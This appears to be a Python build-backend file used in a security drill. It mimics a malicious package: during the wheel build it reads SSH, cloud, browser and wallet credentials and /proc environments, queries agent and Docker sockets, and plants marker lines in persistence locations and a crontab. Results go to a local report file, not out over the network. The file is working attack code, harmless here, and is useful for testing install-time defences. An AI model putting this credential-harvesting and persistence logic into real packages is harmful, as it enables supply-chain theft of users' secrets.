"""The drill's malware: a build backend (PEP 517) whose build does what real packages have done.

Installing the package runs this, as ``setup.py`` of ctx, colourama and many more ran theirs.  It
looks for secrets, tries to come back later, and reports what it could read to the file
``DRILL_REPORT`` instead of sending it away.  Whether what it wrote has reached the user is for
``drill_host.py`` to find out.
"""

import base64
import hashlib
import json
import os
import socket
import subprocess
import zipfile
from collections.abc import Callable
from functools import partial

MARK = "written by the drill's malware"

READ = (
    "~/.ssh/id_rsa",
    "~/.aws/credentials",
    "~/.config/gh/hosts.yml",
    "~/.docker/config.json",
    "~/.git-credentials",
    "~/.netrc",
    "~/.pypirc",
    "~/.kube/config",
    "~/.bash_history",
    "~/.mozilla/firefox/abc.default/logins.json",
    "~/.config/google-chrome/Default/Login Data",
    "~/.bitcoin/wallet.dat",
    "~/.gnupg/private-keys-v1.d/key",
    "~/docs/letter.txt",
)
APPEND = (
    "~/.bashrc",
    "~/.profile",
    "~/.ssh/authorized_keys",
    "~/.config/autostart/update.desktop",
    "~/.config/systemd/user/update.service",
    "~/.local/bin/git",
    "~/src/app/.git/hooks/post-commit",
    "~/src/app/.git/config",
    "~/src/app/.vscode/tasks.json",
    "~/src/app/other/lib/site-packages/update.pth",
    "~/src/app/venv/bin/activate",
    "~/src/app/venv/bin/python-update",
    "~/src/tools/lib/site-packages/update.pth",
)
CONNECT = ("agent.sock", "docker.sock")


def read(path: str) -> str:
    """What is in a file."""
    with open(os.path.expanduser(path), encoding="utf-8") as file:
        return file.read()


def append(path: str) -> None:
    """A line for later, in a file that may have to be made."""
    path = os.path.expanduser(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a", encoding="utf-8") as file:
        file.write(f"# {MARK}\n")


def ask(name: str) -> str:
    """What an agent or daemon of the session answers; by a relative name, for its length."""
    before = os.getcwd()
    os.chdir(os.environ.get("XDG_RUNTIME_DIR", "/nowhere"))
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(5)
            client.connect(name)
            return client.recv(1000).decode()
    finally:
        os.chdir(before)


def install_crontab() -> None:
    """A job for every minute, by the program that is in PATH."""
    job = f"* * * * * true # {MARK}\n"
    subprocess.run(["crontab", "-"], input=job, text=True, check=True)


def environments() -> str:
    """The variables of each process that shows them."""
    found = [repr(dict(os.environ))]
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found.append(repr(file.read()))
        except OSError:
            continue
    return "\n".join(found)


def attack() -> dict[str, str]:
    """Try everything; what each attempt returned, or how it was refused."""
    attempts: dict[str, Callable[[], object]] = {"the environment": environments}
    for path in READ:
        attempts[path] = partial(read, path)
    for name in CONNECT:
        attempts[name] = partial(ask, name)
    for path in APPEND:
        attempts[path] = partial(append, path)
    attempts["crontab"] = install_crontab
    results = {}
    for name, attempt in attempts.items():
        try:
            results[name] = str(attempt())
        except (OSError, subprocess.SubprocessError) as error:
            results[name] = f"refused: {error}"
    return results


def build_wheel(directory: str, settings: object = None, metadata: object = None) -> str:
    """PEP 517: make the wheel, an innocent one."""
    del settings, metadata
    with open(os.environ["DRILL_REPORT"], "w", encoding="utf-8") as report:
        json.dump(attack(), report)
    name = "innocent-1.0-py3-none-any.whl"
    info = "innocent-1.0.dist-info"
    files = {
        "innocent.py": "",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: innocent\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
        record = "".join(f"{path},{_hash(text)},{len(text)}\n" for path, text in files.items())
        wheel.writestr(f"{info}/RECORD", record + f"{info}/RECORD,,\n")
    return name


def _hash(text: str) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest())
    return "sha256=" + digest.rstrip(b"=").decode()
